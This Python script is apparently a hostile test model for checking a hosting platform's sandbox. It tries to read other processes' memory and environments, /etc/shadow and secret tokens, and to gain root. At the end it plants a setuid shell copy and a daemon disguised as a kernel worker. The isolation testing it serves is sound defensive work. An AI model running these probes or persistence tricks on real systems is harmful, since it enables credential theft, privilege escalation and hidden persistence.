"""A model that tries everything that a model must not be able to do, and writes what came of it.

It runs as the script of a model, and can be put at the top of one: it uses nothing but the standard
library. Each attack is a function that returns what it got hold of, and returns nothing or raises
if that was nothing. For each, a line `ATTACK {"attack": …, "got": …, "error": …}` is printed. An
attack that succeeds damages nothing. At last it leaves processes and files behind.
"""

# mypy: allow-untyped-defs, allow-untyped-calls
# mypy: disable-error-code="func-returns-value, redundant-expr, var-annotated"

import contextlib
import ctypes
import errno
import json
import os
import resource
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
ATTACKS = []
PRIVATE = os.path.dirname(os.environ["HOME"])
STATE = os.environ.get("BLANKLY_STATE_DIR", "")


def attack(act):
    ATTACKS.append(act)
    return act


def each(act, things):
    """Return those of the things that the act worked on, and what it returned."""
    got = {}
    for thing in things:
        with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
            if (found := act(thing)) not in (None, False):
                got[str(thing)] = found
    return got


def called(number):
    """Return True for a call of the C library that succeeded; raise OSError for one that failed."""
    if number < 0:
        raise OSError(ctypes.get_errno(), "")
    return True


# ------------------------------------------------------------------ what there is


def owners():
    """Return the processes of other users, those that started this one among them."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdecimal():
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{name}").st_uid != os.getuid() or name in ancestors():
                    found.append(name)
    return found


def ancestors():
    found, process = [], os.getpid()
    while process > 1:
        with open(f"/proc/{process}/stat", "rb") as file:
            process = int(file.read().rpartition(b")")[2].split()[1])
        found.append(str(process))
    return found


def above():
    """Return the directories above the private one, without those of the system."""
    found, path = [], PRIVATE
    while (path := os.path.dirname(path)) not in ("/", "/tmp", "/var/cache", "/github/runner_temp"):
        found.append(path)
    return found


def kept():
    """Return the paths of what a platform keeps, as far as their names can be known or listed."""
    names = (
        *("platform.sqlite", "platform.sqlite-wal", "platform.sqlite-shm", "refresh-token"),
        *("environments.key", ".lock", ".server"),
    )
    folders = (
        *("bundles", "results", "logs", "reports", "incoming", "runs", "live/locks"),
        *("live/copies", "state", "live"),
    )
    found = []
    states = os.path.dirname(STATE)
    for place in (*above(), *((states, os.path.dirname(states)) if STATE else ())):
        found += [f"{place}/{name}" for name in names]
        for folder in (*folders, "."):
            with contextlib.suppress(OSError):
                found += [f"{place}/{folder}/{name}" for name in os.listdir(f"{place}/{folder}")]
    return [one for one in dict.fromkeys(found) if not is_own(one)]


def is_own(path):
    """Whether a path is the model's, or leads there."""
    own = [os.path.realpath(one) for one in (PRIVATE, STATE) if one]
    real = os.path.realpath(path)
    return real.startswith(tuple(own)) or any(one.startswith(real) for one in own)


def words():
    """Return the words of the command that runs this model."""
    with open("/proc/self/cmdline") as file:
        return file.read().split("\0")


def commands():
    """Return the files that the runner of a workflow gives to its steps."""
    return [f"/github/file_commands/{name}" for name in COMMANDS]


COMMANDS = ("set_env", "set_output", "add_path", "save_state", "step_summary", "new")


def read(path):
    flags = os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY
    descriptor = os.open(path, flags)
    try:
        if stat.S_ISDIR(os.fstat(descriptor).st_mode):
            return os.listdir(path)[:3]
        return len(os.read(descriptor, 1))
    finally:
        os.close(descriptor)


def may_write(path):
    """Open a file to write and write nothing, or make a file in a directory and remove it."""
    if os.path.isdir(path):
        name = f"{path}/.hostile"
        os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        os.unlink(name)
    else:
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY))
    return True


# ------------------------------------------------------------------ other processes


@attack
def reads_environments():
    return each(lambda process: read(f"/proc/{process}/environ") or None, owners())


@attack
def reads_memory():
    return each(lambda process: os.close(os.open(f"/proc/{process}/mem", 0)) or True, owners())


@attack
def reads_memory_at_once():
    buffer = ctypes.create_string_buffer(1)

    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    def act(process):
        with open(f"/proc/{process}/maps") as file:
            start = int(file.readline().partition("-")[0], 16)
        ours = Vector(ctypes.addressof(buffer), 1)
        theirs = Vector(start, 1)
        pointers = ctypes.byref(ours), 1, ctypes.byref(theirs), 1
        return called(LIBC.process_vm_readv(int(process), *pointers, 0))

    return each(act, owners())


@attack
def lists_descriptors():
    return each(lambda process: os.listdir(f"/proc/{process}/fd")[:3], owners())


@attack
def follows_directories():
    return each(lambda process: os.readlink(f"/proc/{process}/cwd"), owners())


@attack
def traces():
    def act(process):
        called(LIBC.ptrace(PTRACE_ATTACH, int(process), 0, 0))
        os.waitpid(int(process), 0x40000000)  # __WALL
        return called(LIBC.ptrace(PTRACE_DETACH, int(process), 0, 0))

    return each(act, ancestors()[:2])


@attack
def sends_signals():
    return each(lambda process: os.kill(int(process), 0) or True, owners())


@attack
def takes_descriptors():
    def act(process):
        handle = os.pidfd_open(int(process))
        try:
            return called(LIBC.syscall(438, handle, 0, 0))  # pidfd_getfd
        finally:
            os.close(handle)

    return each(act, ancestors())


@attack
def changes_limits():
    def act(process):
        what = resource.RLIMIT_NOFILE
        limits = resource.prlimit(int(process), what)
        return bool(resource.prlimit(int(process), what, limits))

    return each(act, ancestors())


@attack
def changes_priorities():
    return each(
        lambda process: (
            os.sched_setaffinity(int(process), os.sched_getaffinity(int(process))) or True
        ),
        ancestors(),
    )


# ------------------------------------------------------------------ files


@attack
def reads_what_is_kept():
    return each(lambda path: read(path) or None, kept())


@attack
def lists_what_is_kept():
    return each(lambda path: os.listdir(path) or None, above())


@attack
def writes_to_what_is_kept():
    places = [*above(), *(path for path in kept() if os.path.exists(path))]
    return each(may_write, places)


@attack
def writes_to_the_environment():
    own = os.path.realpath(sys.executable)
    packages = [path for path in sys.path if path and not is_own(path) and os.path.exists(path)]
    return each(may_write, [own, os.path.dirname(own), os.__file__, json.__file__, *packages])


@attack
def writes_to_the_program():
    paths = [os.path.abspath(word) for word in words() if word.endswith(".py")]
    paths += [os.path.dirname(path) for path in paths]
    return each(may_write, [path for path in paths if not is_own(path)])


@attack
def writes_to_stores_of_prices():
    given = words()
    places = [given[at + 1] for at, word in enumerate(given) if word == "--prices"]
    places = [place for place in places if not is_own(place)]
    return each(may_write, [*places, *(os.path.dirname(place) for place in places)])


@attack
def changes_the_reason_of_its_stop():
    return each(may_write, [f"{os.path.dirname(PRIVATE)}/stop-reason"])


@attack
def writes_to_the_runner():
    return each(may_write, [*commands(), "/github/workspace", "/github/workspace/blankly.json"])


@attack
def writes_to_the_system():
    return each(may_write, ["/etc", "/etc/passwd", "/usr/bin", "/usr/local/bin", "/root", "/"])


@attack
def reads_secrets_of_the_system():
    places = ("/etc/shadow", "/run/secrets/token", "/dev/mem", "/proc/kcore", "/proc/1/environ")
    return each(lambda path: read(path) or None, places)


@attack
def opens_the_terminal():
    return each(lambda path: os.close(os.open(path, os.O_RDWR)) or True, ["/dev/tty"])


@attack
def has_descriptors_of_others():
    links = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            links[name] = os.readlink(f"/proc/self/fd/{name}")
    usual = ("pipe:", "/dev/null", "/proc/")
    return {name: link for name, link in links.items() if not link.startswith(usual)} or None


# ------------------------------------------------------------------ more rights


@attack
def becomes_root():
    return each(lambda act: act() is None, [lambda: os.setuid(0), lambda: os.seteuid(0)])


@attack
def joins_groups():
    return each(lambda act: act() is None, [lambda: os.setgid(0), lambda: os.setgroups([0])])


@attack
def uses_programs_of_root():
    """Programs that would run as their owner."""

    def act(command):
        return subprocess.run(command, capture_output=True, timeout=10).returncode == 0

    return each(act, [["su", "-c", "true"], ["sudo", "-n", "true"]])


@attack
def reads_in_a_namespace_of_its_own():
    """As root there, which is nobody outside."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        got = {}
        with contextlib.suppress(BaseException):
            if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                got = each(lambda path: read(path) or None, [*kept(), "/etc/shadow"])
                got |= each(may_write, [*above(), "/etc", os.__file__])
        os.write(writer, json.dumps(got).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as answer:
        found = json.loads(answer.read() or "{}")
    os.waitpid(child, 0)
    return found


@attack
def makes_devices():
    def act(kind):
        path = f"{os.environ['TMPDIR']}/device"
        os.mknod(path, kind | 0o600, os.makedev(1, 1))
        os.unlink(path)
        return True

    return each(act, [stat.S_IFCHR, stat.S_IFBLK])


@attack
def mounts():
    place = os.environ["TMPDIR"].encode()
    called(LIBC.mount(b"none", place, b"tmpfs", 0, None))
    return called(LIBC.umount(place))


@attack
def leaves_its_root():
    if os.fork() == 0:
        os._exit(LIBC.chroot(b"/tmp") != 0)
    return True if os.wait()[1] == 0 else None


# ------------------------------------------------------------------ the server


@attack
def asks_the_server_without_a_token():
    url = os.environ.get("SERVER_URL", "http://127.0.0.1:9")

    def act(path):
        request = urllib.request.Request(f"{url}{path}", method=path.split("#")[-1])
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status == 200 or None

    paths = ("/project/list#GET", "/model/list#POST", "/metrics#GET", "/auth/token#POST")
    return each(act, paths)


# ------------------------------------------------------------------ bounds


@attack
def forks_without_bound():
    soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    is_bounded = 0 < hard <= 4_096 and soft <= hard
    return None if is_bounded else hard


@attack
def writes_files_without_bound():
    hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
    return None if 0 < hard <= 11_000_000_000 else hard


@attack
def leaves_its_memory():
    return resource.getrlimit(resource.RLIMIT_CORE)[1] or None


# ------------------------------------------------------------------ what is left behind


def leave_things_behind():
    """Leave processes, files, and files that tempt whoever removes or hands them over."""
    if os.fork() == 0:
        os.setsid()
        if daemon := os.fork():
            print("DAEMON", daemon, flush=True)
            os._exit(0)
        os.chdir("/")
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.closerange(0, 100)
        os.execve("/bin/sleep", ["kworker/0:1", "600"], {})
    os.wait()
    for place in ("/tmp", "/var/tmp", "/dev/shm"):
        with contextlib.suppress(OSError):
            print("LEFT", tempfile.mkdtemp(dir=place), flush=True)
    for place in filter(None, (STATE, PRIVATE)):
        with contextlib.suppress(OSError):
            shutil.copy("/bin/sh", f"{place}/shell")
            os.chmod(f"{place}/shell", 0o6755)
            os.symlink("/etc", f"{place}/etc")
            os.mkfifo(f"{place}/pipe")
            os.mkdir(f"{place}/closed", 0)
        for number, target in enumerate([*above(), "/etc/passwd", os.path.realpath(sys.argv[0])]):
            with contextlib.suppress(OSError):
                os.symlink(target, f"{place}/link{number}")
                os.link(target, f"{place}/hard{number}")


def main():
    for act in ATTACKS:
        got = error = None
        try:
            got = act()
        except Exception as problem:  # which is how many of them end
            number = getattr(problem, "errno", None) or 0
            error = errno.errorcode.get(number, f"{type(problem).__name__}: {problem}")
        told = {"attack": act.__name__, "got": str(got)[:2_000] if got else None, "error": error}
        print("ATTACK", json.dumps(told), flush=True)
    leave_things_behind()
    print("USER", os.getuid(), flush=True)


main()
